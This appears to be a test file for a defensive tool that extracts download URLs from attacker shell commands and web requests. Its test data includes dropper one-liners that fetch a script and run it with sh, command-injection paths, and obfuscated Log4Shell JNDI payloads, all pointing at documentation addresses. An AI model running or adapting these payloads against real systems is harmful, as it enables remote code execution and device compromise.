import * as fc from 'fast-check'
import { expect, it } from 'vitest'
import { linksOfCommand, linksOfRequest } from './links.ts'

it.each([
  ['cd /tmp; wget http://192.0.2.9/bins.sh; sh bins.sh', ['http://192.0.2.9/bins.sh']],
  ['wget -q 192.0.2.9/a.sh -O- | sh', ['http://192.0.2.9/a.sh']],
  ['curl -O http://192.0.2.9/x;tftp -g -r mips 192.0.2.8', ['http://192.0.2.9/x', 'tftp://192.0.2.8/mips']],
  ['tftp 192.0.2.8 -c get m.sh', ['tftp://192.0.2.8/m.sh']],
  ['ftpget -v -u anonymous -p x -P 21 192.0.2.7 local.sh remote.sh', ['ftp://192.0.2.7/remote.sh']],
  ['echo hello', []],
])('a command names what it would fetch: %s', (text, links) => {
  expect(linksOfCommand(text)).toEqual(links)
})

it.each([
  ['/shell?cd+/tmp;wget+http://192.0.2.9/jaws;sh+jaws', ['http://192.0.2.9/jaws']],
  ['/cgi-bin/;wget${IFS}http://192.0.2.9/m${IFS}-O-', ['http://192.0.2.9/m']],
  ['${jndi:ldap://192.0.2.9:1389/a}', ['ldap://192.0.2.9:1389/a']],
  ['${${lower:j}${::-n}di:${lower:l}dap://192.0.2.9/a}', ['ldap://192.0.2.9/a']],
  ['%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D', ['ldap://192.0.2.9/a']],
  ['Mozilla/5.0 (compatible; +http://scanner.example/about)', []],
  ['<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">', []],
])('a request names what it asks to be fetched, and not what it merely mentions: %s', (text, links) => {
  expect(linksOfRequest(text)).toEqual(links)
})

it('any text gives a bounded number of links, each a part of it or made from parts', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 4000, unit: 'binary' }), (text) => {
      expect(linksOfCommand(text).length).toBeLessThanOrEqual(8)
      expect(linksOfRequest(text).length).toBeLessThanOrEqual(8)
    }),
    { numRuns: 50 },
  )
})

it('a text made to be slow is not', () => {
  for (const unit of ['wget -a', 'wget ', 'tftp 1', 'http://', '${a:', 'ftpget 1.1.1.1 '])
    expect(linksOfRequest(unit.repeat(20_000)).length).toBeLessThanOrEqual(8)
})
